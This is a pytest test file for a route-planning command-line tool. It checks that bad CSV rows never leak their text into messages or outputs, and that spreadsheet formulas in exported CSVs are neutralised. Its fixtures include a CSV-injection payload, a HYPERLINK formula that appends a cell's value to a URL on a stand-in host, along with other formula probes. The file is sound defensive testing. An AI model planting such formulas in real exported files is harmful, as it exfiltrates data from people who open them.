"""Nothing leaked, nothing injected: a bad row's text never reaches a message or an
output file, and cells a spreadsheet would run as formulas are made inert."""

import json

import pandas as pd
from typer.testing import CliRunner

import visitplan as vp
from visitplan.cli import app
from visitplan.io.csvsafe import neutralise_text, restore_text

ACCOUNT_COLUMNS = ["account_id", "lat", "lon", "name", "phone", "address", "balance",
                   "days_past_due", "priority", "windows", "service_min", "skills",
                   "preferred_agent", "must_visit", "status", "last_visit", "visits_7d",
                   "visits_30d", "load", "flags", "risk", "address_type", "promise_date",
                   "promise_amount", "broken_promises", "not_home_streak", "last_contact"]


def token(column: str, row: int) -> str:
    return f"Q{row}x{column.replace('_', '')}Z"


def _accounts(path):
    good = "A1,31.23,121.47," + ",".join([""] * (len(ACCOUNT_COLUMNS) - 3))
    rows = [",".join(ACCOUNT_COLUMNS), good]
    for row in (2, 3):  # every cell but the id holds a unique planted string
        rows.append(",".join([f"B{row}"] + [token(c, row) for c in ACCOUNT_COLUMNS[1:]]))
    # A misaligned row: the address slid into lat, the phone into windows.
    rows.append(f"B4,{token('address', 4)},121.47,,,,,,,{token('phone', 4)}" +
                "," * (len(ACCOUNT_COLUMNS) - 10))
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return [token(c, r) for r in (2, 3) for c in ACCOUNT_COLUMNS[1:]] + \
        [token("address", 4), token("phone", 4)]


def _everything(folder) -> str:
    return "\n".join(p.read_text(encoding="utf-8") for p in folder.rglob("*")
                     if p.is_file())


def test_planted_strings_in_bad_rows_appear_nowhere(tmp_path):
    accounts, agents = tmp_path / "accounts.csv", tmp_path / "agents.csv"
    planted = _accounts(accounts)
    agents.write_text("agent_id,start_lat,start_lon\nG1,31.23,121.47\n")
    runner = CliRunner()
    stopped = runner.invoke(app, ["plan", str(accounts), str(agents), "--date", "2026-12-01",
                                  "--out", str(tmp_path / "p0"), "--time-limit", "1"])
    assert stopped.exit_code == 2
    assert "row 2" in stopped.output and "column 'lat'" in stopped.output
    assert [t for t in planted if t in stopped.output] == []
    out = tmp_path / "plan"
    kept = runner.invoke(app, ["plan", str(accounts), str(agents), "--date", "2026-12-01",
                               "--out", str(out), "--time-limit", "1", "--skip-bad-rows"])
    assert kept.exit_code == 0, kept.output
    reasons = pd.read_csv(out / "unassigned.csv").set_index("account_id")["reason"]
    assert set(reasons[["B2", "B3", "B4"]]) <= {"BAD_DATA", "BAD_COORDINATES"}
    written = _everything(tmp_path / out.resolve().name) + kept.output
    assert "column 'lat'" in written  # the rows are explained ...
    assert [t for t in planted if t in written] == []  # ... without their text


def test_a_bad_roster_cell_is_not_quoted(tmp_path):
    accounts, agents = tmp_path / "accounts.csv", tmp_path / "agents.csv"
    accounts.write_text("account_id,lat,lon\nA1,31.23,121.47\n")
    agents.write_text("agent_id,start_lat,start_lon,shift_start,break,days\n"
                      "G1,Q1xlatZ,121.47,Q1xshiftZ,Q1xbreakZ,Q1xdaysZ\n")
    result = CliRunner().invoke(app, ["plan", str(accounts), str(agents), "--date",
                                      "2026-12-01", "--out", str(tmp_path / "p")])
    assert result.exit_code == 2 and "column 'shift_start'" in result.output
    assert "Q1x" not in result.output


# -- CSV injection ---------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'


def test_formulas_are_inert_in_csv_files_for_people_and_raw_in_plan_json(tmp_path):
    accounts = pd.DataFrame([
        {"account_id": "=1+2", "lat": 31.23, "lon": 121.47, "name": FORMULA,
         "address": "@SUM(A1)", "phone": "+8613800000000"},
        {"account_id": "'=quoted", "lat": 31.231, "lon": 121.471, "name": "-minus"},
    ])
    problem = vp.read_frames(accounts, pd.DataFrame([{"agent_id": "G1", "start_lat": 31.23,
                                                      "start_lon": 121.47}]),
                             date="2026-12-01")
    plan = vp.solve(problem, time_limit=1)
    out = vp.write_plan(plan, tmp_path / "plan", problem)
    for name in ("routes.csv", "agents/G1.csv"):
        for line in (out / name).read_text().splitlines():
            for cell in line.split(","):
                assert not cell.startswith(("=", "+", "-", "@", '"=', '"@')), (name, cell)
    sheet = (out / "agents" / "G1.csv").read_text()
    assert "'=HYPERLINK" in sheet and "'@SUM(A1)" in sheet and "'+8613800000000" in sheet
    raw = json.loads((out / "plan.json").read_text())
    assert {v["account_id"] for r in raw["agent_routes"] for v in r["visits"]} == \
        {"=1+2", "'=quoted"}
    assert vp.validation.validate_files(problem, out) == []  # our own files read back exact


def test_neutralising_round_trips():
    for value in ["=1+2", "'=1+2", "''@x", "+86", "-5", "\tx", "plain", "'plain", "", "a=b"]:
        assert restore_text(neutralise_text(value)) == value
        assert not neutralise_text(value).startswith(("=", "+", "-", "@", "\t", "\r"))
